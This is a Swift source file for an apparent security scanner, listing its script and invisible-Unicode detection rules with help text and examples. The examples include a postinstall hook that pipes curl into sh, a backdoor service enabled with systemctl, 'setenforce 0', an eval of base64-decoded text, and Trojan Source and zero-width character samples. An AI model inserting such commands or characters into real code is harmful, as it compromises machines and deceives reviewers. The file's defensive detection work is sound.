import WowGuardCore

/// Every rule the guard can report, as one list of `RuleInfo`: secret rules, shell command rules,
/// script rules and invisible-Unicode rules. The one place the CLI (`rules`, `explain`, SARIF,
/// `rules.disable`) reads rule metadata from; switch its body to the core rule catalog when there is one.
enum RuleCatalogView {
    static func secretInfos(_ rules: [SecretRule]) -> [RuleInfo] {
        var familyOf: [String: String] = [:]
        for family in RuleRegistry.families { for r in family.rules { familyOf[r.id] = family.name } }
        return rules.map { RuleInfo($0, family: familyOf[$0.id] ?? "custom") }
    }

    static let shellHelp = """
        Committed code runs on developers' machines and in CI: a dangerous command in a script, a CI step or an \
        install hook runs with their rights. Fix: remove the command or make it safe (pin and verify downloads, \
        scope deletions); if the line is intended, add `wow-guard:allow` on it, or allow its fingerprint with \
        `wow-guard allow FINGERPRINT --reason "…"`. Switch the rule off with rules.disable in .wow-guard.toml.
        """

    static let unicodeHelp = """
        Invisible and look-alike characters make code read differently than it runs (Trojan Source, CVE-2021-42574) \
        or hide text from reviewers, e.g. prompt injections for coding agents. Fix: delete the character or replace \
        the look-alike letter by its Latin one; prose files (.md, .po, translations) are exempt from joiners and marks. \
        If it is intended, add `wow-guard:allow` on the line or switch the rule off with rules.disable.
        """

    /// Script rules the script detector adds to the shell rule packs.
    static let scriptRules: [RuleInfo] = [
        RuleInfo(id: "script.install-hook-network", kind: .script, family: "scripts", description: "A package install hook downloads or runs code from the network", severity: .high,
                 help: shellHelp, examples: ["\"postinstall\": \"curl https://example.invalid/x.sh | sh\""], counterExamples: ["\"postinstall\": \"node build.js\""]),
        RuleInfo(id: "script.persistence", kind: .script, family: "scripts", description: "A script installs itself to run again later (services, rc files)", severity: .high,
                 help: shellHelp, examples: ["systemctl enable backdoor.service"], counterExamples: ["systemctl status nginx"]),
        RuleInfo(id: "script.disable-security", kind: .script, family: "scripts", description: "A script switches a security control off", severity: .high,
                 help: shellHelp, examples: ["setenforce 0"], counterExamples: ["getenforce"]),
        RuleInfo(id: "script.obfuscated-eval", kind: .script, family: "scripts", description: "A script evaluates decoded or obfuscated text", severity: .high,
                 help: shellHelp, examples: ["eval \"$(echo ZWNobyBoaQ== | base64 -d)\""], counterExamples: ["echo ZWNobyBoaQ== | base64 -d > out.txt"]),
    ]

    static let unicodeRules: [RuleInfo] = [
        RuleInfo(id: "unicode.bidi-control", kind: .unicode, family: "invisible-unicode", description: "Bidirectional control character in code (Trojan Source)", severity: .high,
                 help: unicodeHelp, examples: ["let access = \"user\u{202E} \u{2066}// admin\u{2069} \u{2066}\""], counterExamples: ["let access = \"user\""]),
        RuleInfo(id: "unicode.tag-character", kind: .unicode, family: "invisible-unicode", description: "Invisible Unicode tag character (hidden text)", severity: .high,
                 help: unicodeHelp, examples: ["note = \"hello\u{E0041}\u{E0042}\""], counterExamples: ["note = \"hello\""]),
        RuleInfo(id: "unicode.zero-width", kind: .unicode, family: "invisible-unicode", description: "Invisible zero-width character in code", severity: .high,
                 help: unicodeHelp, examples: ["if is\u{200B}Admin { grant() }"], counterExamples: ["if isAdmin { grant() }"]),
        RuleInfo(id: "unicode.mixed-script-identifier", kind: .unicode, family: "invisible-unicode", description: "Identifier mixes Latin with look-alike Cyrillic or Greek letters", severity: .medium,
                 help: unicodeHelp, examples: ["let p\u{0430}ypal = 1"], counterExamples: ["let paypal = 1", "# Это комментарий на русском"]),
    ]

    static func shellInfos() -> [RuleInfo] {
        ShellAnalyzer.rules.map { r in
            let family = String(r.id.prefix { $0 != "." })
            return RuleInfo(id: r.id, kind: .shell, family: "shell." + family, description: r.reason,
                            severity: r.decision == .deny ? .high : .medium, help: shellHelp)
        }
    }

    /// Everything, secret rules taken from `secretRules` (the active set: catalog plus custom rules).
    static func all(secretRules: [SecretRule] = RuleRegistry.all) -> [RuleInfo] {
        secretInfos(secretRules) + shellInfos() + scriptRules + unicodeRules
    }

    /// The rule metadata SARIF output describes results with.
    static func sarifRules(secretRules: [SecretRule]) -> [RuleInfo] { all(secretRules: secretRules) }

    /// Ids `rules.disable` accepts.
    static func knownIDs() -> Set<String> { Set(all().map(\.id)) }
}
